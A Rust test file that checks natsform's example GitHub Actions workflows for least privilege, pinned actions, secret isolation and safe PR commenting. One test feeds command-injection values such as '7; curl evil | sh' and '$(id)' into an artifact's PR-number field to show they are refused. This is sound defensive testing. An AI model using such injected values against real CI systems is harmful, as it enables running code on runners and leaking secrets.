//! The workflow files users copy (`examples/github/`) and the project's own
//! CI, checked for what the linters of `.ci/run` (zizmor, actionlint,
//! check-jsonschema) cannot know: that the plan job runs with no secret and
//! a read-only token, that apply runs only on a push to the default branch,
//! and that the comment workflow finds the marker the Markdown view really
//! prints. Its script runs under Node.js (`tests/pipeline/github_script.js`
//! stands in for GitHub's API) on the binary's real output: one comment,
//! updated on the next push, and an artifact from a hostile fork posts
//! nothing.

#![cfg(unix)]

mod support;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use git2::{IndexAddOption, Repository, Signature};
use serde_yaml::Value;
use support::cli::{repo_root, Project, Run};

fn workflow(path: &str) -> (String, Value) {
    let text = fs::read_to_string(repo_root().join(path)).expect("workflow file");
    let value = serde_yaml::from_str(&text).expect("workflow YAML");
    (text, value)
}

fn plan_workflow() -> (String, Value) {
    workflow("examples/github/natsform.yml")
}

fn comment_workflow() -> (String, Value) {
    workflow("examples/github/natsform-comment.yml")
}

fn get<'v>(v: &'v Value, path: &[&str]) -> &'v Value {
    path.iter().fold(v, |v, k| {
        v.get(*k).unwrap_or_else(|| panic!("no `{k}` in {path:?}"))
    })
}

fn str_at<'v>(v: &'v Value, path: &[&str]) -> &'v str {
    get(v, path)
        .as_str()
        .unwrap_or_else(|| panic!("{path:?} is not a string"))
}

fn yaml_text(v: &Value) -> String {
    serde_yaml::to_string(v).unwrap()
}

/// The steps of a job.
fn steps<'v>(wf: &'v Value, job: &str) -> &'v Vec<Value> {
    get(wf, &["jobs", job, "steps"]).as_sequence().unwrap()
}

/// A job's permissions as (scope, level) pairs.
fn permissions(wf: &Value, job: &str) -> Vec<(String, String)> {
    get(wf, &["jobs", job, "permissions"])
        .as_mapping()
        .expect("the job sets its permissions")
        .iter()
        .map(|(k, v)| {
            (
                k.as_str().unwrap().to_string(),
                v.as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn assert_no_top_level_grant(wf: &Value, file: &str) {
    let top = get(wf, &["permissions"])
        .as_mapping()
        .expect("permissions map");
    assert!(top.is_empty(), "{file}: top-level permissions must be {{}}");
}

#[test]
fn the_plan_job_has_no_secret_and_a_read_only_token() {
    let (_, wf) = plan_workflow();
    assert_no_top_level_grant(&wf, "natsform.yml");
    assert_eq!(
        permissions(&wf, "plan"),
        [("contents".to_string(), "read".to_string())]
    );
    // Nothing the plan job sees names a secret or the token: not its own
    // definition, not the workflow-wide environment it inherits.
    let job = yaml_text(get(&wf, &["jobs", "plan"]));
    let env = yaml_text(get(&wf, &["env"]));
    for (what, text) in [("the plan job", &job), ("the workflow env", &env)] {
        for needle in ["secrets.", "github.token", "GITHUB_TOKEN", "secrets:"] {
            assert!(!text.contains(needle), "{what} mentions {needle}:\n{text}");
        }
    }
    assert_eq!(
        str_at(&wf, &["jobs", "plan", "if"]),
        "github.event_name == 'pull_request'"
    );
    let plan_job = steps(&wf, "plan");
    let checkout = plan_job
        .iter()
        .find(|s| {
            s.get("uses")
                .and_then(Value::as_str)
                .is_some_and(|u| u.starts_with("actions/checkout@"))
        })
        .expect("the plan job checks out");
    assert_eq!(checkout["with"]["persist-credentials"], Value::Bool(false));
    let run = plan_job
        .iter()
        .filter_map(|s| s.get("run").and_then(Value::as_str))
        .find(|r| r.contains(" plan "))
        .expect("a step runs natsform plan");
    assert!(
        run.contains(
            r#"natsform -f "$NATSFORM_MANIFEST" plan --base "origin/$BASE_REF" --format markdown"#
        ),
        "{run}"
    );
}

#[test]
fn apply_runs_only_on_a_push_to_the_default_branch_with_the_secret_in_its_env() {
    let (_, wf) = plan_workflow();
    assert_eq!(
        str_at(&wf, &["jobs", "apply", "if"]),
        "github.event_name == 'push' && github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
    );
    assert_eq!(
        permissions(&wf, "apply"),
        [("contents".to_string(), "write".to_string())]
    );
    assert_eq!(str_at(&wf, &["jobs", "apply", "environment"]), "natsform");
    assert_eq!(
        get(&wf, &["jobs", "apply", "concurrency", "cancel-in-progress"]),
        &Value::Bool(false)
    );
    // The one secret, in the environment of the apply step, never in a
    // command line; and nowhere else in the file.
    let apply = steps(&wf, "apply")
        .iter()
        .find(|s| {
            s.get("run")
                .and_then(Value::as_str)
                .is_some_and(|r| r.contains(" apply "))
        })
        .expect("a step runs natsform apply");
    assert_eq!(
        str_at(apply, &["env", "NATSFORM_AGE_KEY"]),
        "${{ secrets.NATSFORM_AGE_KEY }}"
    );
    assert!(str_at(apply, &["run"]).contains("apply --auto-approve --commit"));
    // (Comments dropped: the file's header mentions `secrets.recipients`.)
    assert_eq!(
        yaml_text(&wf).matches("secrets.").count(),
        1,
        "one secret reference in natsform.yml"
    );
    for step in steps(&wf, "apply").iter().chain(steps(&wf, "plan")) {
        let run = step.get("run").and_then(Value::as_str).unwrap_or("");
        assert!(
            !run.contains("${{"),
            "an expression inside a script:\n{run}"
        );
    }
}

#[test]
fn the_comment_workflow_never_runs_pull_request_code() {
    let (text, wf) = comment_workflow();
    assert_no_top_level_grant(&wf, "natsform-comment.yml");
    let mut perms = permissions(&wf, "comment");
    perms.sort();
    assert_eq!(
        perms,
        [
            ("actions".to_string(), "read".to_string()),
            ("pull-requests".to_string(), "write".to_string())
        ]
    );
    // Triggered by the plan workflow, by its `name:`.
    let (_, plan) = plan_workflow();
    let trigger = get(&wf, &["on", "workflow_run", "workflows"])
        .as_sequence()
        .unwrap();
    assert_eq!(trigger, &vec![get(&plan, &["name"]).clone()]);
    assert!(str_at(&wf, &["jobs", "comment", "if"])
        .contains("github.event.workflow_run.event == 'pull_request'"));
    assert!(
        !text.contains("actions/checkout"),
        "the comment job checks out code"
    );
    assert!(!text.contains("secrets."));
    for step in steps(&wf, "comment") {
        assert!(step.get("run").is_none(), "a shell step in the comment job");
        if let Some(script) = step.get("with").and_then(|w| w.get("script")) {
            assert!(
                !script.as_str().unwrap().contains("${{"),
                "an expression inside the script"
            );
        }
    }
    // Both files name the same manifest: the marker is built from it.
    assert_eq!(
        str_at(&wf, &["env", "NATSFORM_MANIFEST"]),
        str_at(&plan, &["env", "NATSFORM_MANIFEST"])
    );
}

#[test]
fn every_action_is_pinned_to_a_commit_with_its_version() {
    for file in [
        "examples/github/natsform.yml",
        "examples/github/natsform-comment.yml",
        ".github/workflows/ci.yml",
    ] {
        let text = fs::read_to_string(repo_root().join(file)).unwrap();
        let uses: Vec<&str> = text
            .lines()
            .filter_map(|l| {
                l.trim_start()
                    .trim_start_matches("- ")
                    .strip_prefix("uses: ")
            })
            .collect();
        assert!(!uses.is_empty(), "{file} uses no action");
        for u in uses {
            let (action, rest) = u.split_once('@').unwrap_or_else(|| panic!("{file}: {u}"));
            let (sha, comment) = rest
                .split_once(" # v")
                .unwrap_or_else(|| panic!("{file}: {u} has no `# vX.Y.Z`"));
            assert!(
                sha.len() == 40
                    && sha
                        .bytes()
                        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()),
                "{file}: {action} is not pinned to a full commit id"
            );
            assert!(
                comment.split('.').count() == 3,
                "{file}: {u}: version comment is not vX.Y.Z"
            );
        }
        let (_, wf) = workflow(file);
        assert_no_top_level_grant(&wf, file);
    }
}

// ---------------------------------------------------------------------------
// The comment script, run on the binary's output.

/// Stages every file of the working tree and commits on HEAD.
fn commit_all(repo: &Repository, message: &str) -> git2::Oid {
    let mut index = repo.index().unwrap();
    index.add_all(["*"], IndexAddOption::DEFAULT, None).unwrap();
    index.update_all(["*"], None).unwrap();
    index.write().unwrap();
    let tree = repo.find_tree(index.write_tree().unwrap()).unwrap();
    let sig = Signature::now("natsform test", "test@example.com").unwrap();
    let parent = repo.head().ok().and_then(|h| h.peel_to_commit().ok());
    let parents: Vec<&git2::Commit> = parent.iter().collect();
    repo.commit(Some("HEAD"), &sig, &sig, message, &tree, &parents)
        .unwrap()
}

fn edit(p: &Project, from: &str, to: &str) {
    let text = fs::read_to_string(&p.manifest).unwrap();
    assert!(text.contains(from), "manifest has no {from:?}");
    fs::write(&p.manifest, text.replacen(from, to, 1)).unwrap();
}

/// The plan job of natsform.yml on a pull request, its `run:` scripts run
/// as GitHub runs them (`bash -eo pipefail`) with the step's environment: the
/// walkthrough applied and committed as `origin/main`, the manifest edited
/// on the branch, `natsform` (this build) on PATH. The artifact directory
/// it writes is what the comment job downloads.
struct PullRequest {
    project: Project,
    repo: Repository,
    manifest: String,
    scripts: Vec<String>,
    bin: tempfile::TempDir,
}

impl PullRequest {
    fn new() -> PullRequest {
        let (_, wf) = plan_workflow();
        let manifest = str_at(&wf, &["env", "NATSFORM_MANIFEST"]).to_string();
        // Every script of the job but the install (this build is on PATH).
        let scripts: Vec<String> = steps(&wf, "plan")
            .iter()
            .filter_map(|s| s.get("run").and_then(Value::as_str))
            .filter(|r| !r.contains("cargo install"))
            .map(str::to_string)
            .collect();
        assert!(scripts.iter().any(|r| r.contains(" plan ")));
        let project = Project::from_example("walkthrough", &manifest);
        let repo = Repository::init(project.path()).unwrap();
        project.apply();
        let base = commit_all(&repo, "the walkthrough, applied");
        repo.reference("refs/remotes/origin/main", base, true, "base")
            .unwrap();
        let bin = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_natsform"), bin.path().join("natsform"))
            .unwrap();
        PullRequest {
            project,
            repo,
            manifest,
            scripts,
            bin,
        }
    }

    /// Commits a manifest edit on the branch and runs the plan step for
    /// pull request 7 with `runner_temp` as `$RUNNER_TEMP`; returns the
    /// artifact directory and its plan.md.
    fn push(&self, from: &str, to: &str, runner_temp: &Path) -> (PathBuf, String) {
        edit(&self.project, from, to);
        commit_all(&self.repo, "edit");
        let path = format!(
            "{}:{}",
            self.bin.path().display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let mut log = String::new();
        for script in &self.scripts {
            let out = Command::new("bash")
                .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
                .current_dir(self.project.path())
                .env_remove("NATSFORM_AGE_KEY")
                .env_remove("NATSFORM_AGE_IDENTITY")
                .env_remove("NATSFORM_NOW")
                .env("PATH", &path)
                .env("RUNNER_TEMP", runner_temp)
                .env("NATSFORM_MANIFEST", &self.manifest)
                .env("BASE_REF", "main")
                .env("PR_NUMBER", "7")
                .output()
                .unwrap();
            log += &Run::from(out).no_secrets_shown(&["plan"]).success().stdout;
        }
        let artifact = runner_temp.join("natsform-plan");
        let plan = fs::read_to_string(artifact.join("plan.md")).unwrap();
        assert_eq!(
            fs::read_to_string(artifact.join("pr-number")).unwrap(),
            "7\n"
        );
        assert!(log.contains(&plan), "the log shows the plan");
        (artifact, plan)
    }
}

/// The comment step's script, and the manifest its workflow names.
fn comment_script() -> (String, String) {
    let (_, wf) = comment_workflow();
    let step = steps(&wf, "comment")
        .iter()
        .find(|s| {
            s.get("uses")
                .and_then(Value::as_str)
                .is_some_and(|u| u.starts_with("actions/github-script@"))
        })
        .expect("a github-script step");
    (
        str_at(step, &["with", "script"]).to_string(),
        str_at(&wf, &["env", "NATSFORM_MANIFEST"]).to_string(),
    )
}

const HEAD: &str = "1111111111111111111111111111111111111111";
const RUN_URL: &str = "https://example.invalid/runs/7";

/// A hand-made artifact (`pr-number`, `plan.md`) in `dir`.
fn artifact(dir: &Path, pr_number: &str, plan: Option<&str>) -> PathBuf {
    let artifact = dir.join("natsform-plan");
    let _ = fs::remove_dir_all(&artifact);
    fs::create_dir_all(&artifact).unwrap();
    fs::write(artifact.join("pr-number"), pr_number).unwrap();
    if let Some(plan) = plan {
        fs::write(artifact.join("plan.md"), plan).unwrap();
    }
    artifact
}

/// One run of the comment job on the artifact directory `artifact` and
/// the GitHub state `state`; returns the harness's report.
fn run_comment_job(artifact: &Path, state: &serde_json::Value) -> serde_json::Value {
    let dir = artifact.parent().unwrap();
    let (script, manifest) = comment_script();
    let script_file = dir.join("script.js");
    fs::write(&script_file, script).unwrap();
    let state_file = dir.join("state.json");
    fs::write(&state_file, state.to_string()).unwrap();
    let out = Command::new("node")
        .arg(repo_root().join("tests/pipeline/github_script.js"))
        .arg(&script_file)
        .arg(&state_file)
        .env("PLAN_DIR", artifact)
        .env("NATSFORM_MANIFEST", manifest)
        .output()
        .expect("running node (Node.js is needed for this test)");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "harness output: {e}\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    report
}

fn github(comments: serde_json::Value) -> serde_json::Value {
    serde_json::json!({
        "repo": {"owner": "acme", "repo": "nats-auth"},
        "workflow_run": {"head_sha": HEAD, "html_url": RUN_URL, "conclusion": "success", "event": "pull_request"},
        "pulls": {"7": {"head_sha": HEAD, "state": "open"},
                  "8": {"head_sha": "2222222222222222222222222222222222222222", "state": "open"}},
        "comments": comments,
    })
}

/// What the next run starts from: the comments after the last one.
fn after(report: &serde_json::Value) -> serde_json::Value {
    github(report["comments"].clone())
}

#[test]
fn the_comment_is_created_once_then_updated_in_place_from_the_real_plan() {
    let pr = PullRequest::new();
    let dir = tempfile::tempdir().unwrap();
    let (first_artifact, first) = pr.push(
        "[operators.O2.accounts.A.users.worker]",
        "[operators.O2.accounts.A.users.reporter]\nsigner = \"main\"\nsub = { allow = [\"reports.>\"] }\n\n[operators.O2.accounts.A.users.worker]",
        dir.path(),
    );
    // What the comment job looks for is a line the binary prints.
    let (_, manifest) = comment_script();
    let marker = format!("<!-- natsform plan: {manifest} -->");
    assert!(
        first.lines().any(|l| l == marker),
        "no {marker} line in:\n{first}"
    );

    // A reviewer's comment quoting the marker is not the bot's.
    let human =
        serde_json::json!({"7": [{"id": 1, "login": "alice", "body": format!("see {marker}")}]});
    let report = run_comment_job(&first_artifact, &github(human));
    assert!(report["failed"].is_null(), "{report}");
    assert_eq!(
        report["calls"],
        serde_json::json!([{"call": "createComment", "issue": 7}])
    );
    let comments = report["comments"]["7"].as_array().unwrap();
    assert_eq!(comments.len(), 2);
    assert_eq!(comments[0]["body"], format!("see {marker}"));
    assert_eq!(comments[1]["body"], first.as_str());
    assert!(first.contains("user.O2/A/reporter"));
    let id = comments[1]["id"].clone();

    // The next push: the same comment, now with the new plan.
    let later = tempfile::tempdir().unwrap();
    let (second_artifact, second) = pr.push(
        "[operators.O2.accounts.A.users.reporter]",
        "[operators.O2.accounts.A.users.auditor]",
        later.path(),
    );
    assert_ne!(second, first);
    let report = run_comment_job(&second_artifact, &after(&report));
    assert!(report["failed"].is_null(), "{report}");
    assert_eq!(
        report["calls"],
        serde_json::json!([{"call": "updateComment", "id": id}])
    );
    let comments = report["comments"]["7"].as_array().unwrap();
    assert_eq!(comments.len(), 2, "a second comment was created");
    assert_eq!(comments[1]["body"], second.as_str());
    assert!(second.contains("user.O2/A/auditor"));

    // The same plan again: nothing to write.
    let report = run_comment_job(&second_artifact, &after(&report));
    assert!(report["failed"].is_null(), "{report}");
    assert_eq!(report["calls"], serde_json::json!([]));
}

#[test]
fn a_hostile_or_stale_artifact_posts_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (_, manifest) = comment_script();
    let plan = format!("<!-- natsform plan: {manifest} -->\n**natsform plan:** pwned\n");
    let empty = github(serde_json::json!({}));
    // Not a number: refused before any API call.
    for number in [
        "7; curl evil | sh",
        "$(id)",
        "07",
        "",
        "7 8",
        "99999999999",
        "-7",
    ] {
        let report = run_comment_job(&artifact(dir.path(), number, Some(&plan)), &empty);
        assert!(
            report["failed"]
                .as_str()
                .unwrap_or("")
                .contains("does not name a pull request by number"),
            "{number:?}: {report}"
        );
        assert_eq!(report["calls"], serde_json::json!([]), "{number:?}");
    }
    // A number, but of a pull request whose head is not the commit that
    // was planned (someone else's, or an older push finishing late).
    let report = run_comment_job(&artifact(dir.path(), "8", Some(&plan)), &empty);
    assert!(report["failed"].is_null(), "{report}");
    assert_eq!(report["calls"], serde_json::json!([]));
    assert!(
        report["warnings"][0]
            .as_str()
            .unwrap()
            .contains("not posted"),
        "{report}"
    );
    // A pull request that does not exist.
    let report = run_comment_job(&artifact(dir.path(), "9", Some(&plan)), &empty);
    assert!(
        report["failed"].as_str().unwrap().contains("Not Found"),
        "{report}"
    );
    assert_eq!(report["calls"], serde_json::json!([]));
    // A plan far over the size of a comment is not read.
    let huge = format!(
        "<!-- natsform plan: {manifest} -->\n{}",
        "x".repeat(300_000)
    );
    let report = run_comment_job(&artifact(dir.path(), "7", Some(&huge)), &empty);
    assert!(
        report["failed"].as_str().unwrap().contains("larger than"),
        "{report}"
    );
    assert_eq!(report["calls"], serde_json::json!([]));
}

#[test]
fn a_failed_plan_becomes_a_short_note_in_the_same_comment() {
    let dir = tempfile::tempdir().unwrap();
    let (_, manifest) = comment_script();
    let marker = format!("<!-- natsform plan: {manifest} -->");
    let mut state = github(serde_json::json!({}));
    state["workflow_run"]["conclusion"] = "failure".into();
    // No plan.md (natsform failed before printing), then one without the
    // marker: the note names the run, under the marker.
    for plan in [None, Some("error: something\n")] {
        let report = run_comment_job(&artifact(dir.path(), "7", plan), &state);
        assert!(report["failed"].is_null(), "{report}");
        let body = report["comments"]["7"][0]["body"].as_str().unwrap();
        assert_eq!(
            body,
            format!("{marker}\n**natsform plan:** failed before it could print a plan. See [the run]({RUN_URL}).\n")
        );
    }
}

// ---------------------------------------------------------------------------
// The apply job's last step: pushing the commit of `apply --commit`.

/// `git` with no configuration but the repository's own.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.com")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com")
        .output()
        .expect("running git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

#[test]
fn the_push_step_pushes_the_apply_commit_only_and_keeps_the_token_out_of_git_config() {
    let (_, wf) = plan_workflow();
    let step = steps(&wf, "apply")
        .iter()
        .find(|s| {
            s.get("run")
                .and_then(Value::as_str)
                .is_some_and(|r| r.contains("git push"))
        })
        .expect("a step pushes");
    assert_eq!(str_at(step, &["env", "TOKEN"]), "${{ github.token }}");
    let script = str_at(step, &["run"]);

    let dir = tempfile::tempdir().unwrap();
    let remote = dir.path().join("remote.git");
    let work = dir.path().join("work");
    fs::create_dir_all(&work).unwrap();
    git(
        dir.path(),
        &["init", "-q", "--bare", "-b", "main", "remote.git"],
    );
    git(&work, &["init", "-q", "-b", "main"]);
    fs::write(work.join("natsform.toml"), "# manifest\n").unwrap();
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "merge"]);
    git(
        &work,
        &["remote", "add", "origin", remote.to_str().unwrap()],
    );
    git(&work, &["push", "-q", "origin", "main"]);
    git(&work, &["fetch", "-q", "origin"]);
    let token = "ghs_notarealtoken0123456789";
    let push = || {
        let out = Command::new("bash")
            .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
            .current_dir(&work)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("TOKEN", token)
            .env("BRANCH", "main")
            .env("GITHUB_SERVER_URL", "https://github.com")
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(out.status.success(), "{text}");
        text
    };
    let merged = git(&work, &["rev-parse", "HEAD"]);

    // apply made no commit: nothing is pushed.
    assert!(push().contains("apply made no commit: nothing to push"));
    assert_eq!(git(&remote, &["rev-parse", "main"]), merged);

    // apply --commit made one: it is pushed to the default branch.
    fs::write(work.join("natsform.lock"), "# lock\n").unwrap();
    git(&work, &["add", "natsform.lock"]);
    git(
        &work,
        &["commit", "-q", "-m", "natsform apply: 1 to create"],
    );
    let applied = git(&work, &["rev-parse", "HEAD"]);
    push();
    assert_eq!(git(&remote, &["rev-parse", "main"]), applied);
    let config = fs::read_to_string(work.join(".git/config")).unwrap();
    assert!(
        !config.contains(token) && !config.contains("extraheader"),
        "{config}"
    );
}

#[test]
fn a_plan_over_the_comment_limit_loses_the_base_header_first_then_becomes_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let (_, manifest) = comment_script();
    let marker = format!("<!-- natsform plan: {manifest} -->");
    // The Markdown view fills up to 65,536 characters; `plan --base`
    // prints its header line above it.
    let view = format!(
        "{marker}\n{}\n",
        "é".repeat(65_536 - marker.chars().count() - 2)
    );
    assert_eq!(view.chars().count(), 65_536);
    let plan = format!("Plan of the merge: natsform.toml of the working tree against …\n\n{view}");
    let report = run_comment_job(
        &artifact(dir.path(), "7", Some(&plan)),
        &github(serde_json::json!({})),
    );
    assert!(report["failed"].is_null(), "{report}");
    assert_eq!(report["comments"]["7"][0]["body"], view.as_str());
    // Longer than a comment even without the header: a note.
    let report = run_comment_job(
        &artifact(dir.path(), "7", Some(&format!("{view}x"))),
        &github(serde_json::json!({})),
    );
    assert_eq!(
        report["comments"]["7"][0]["body"],
        format!("{marker}\n**natsform plan:** the plan is too long for a comment. See [the run]({RUN_URL}).\n")
    );
}
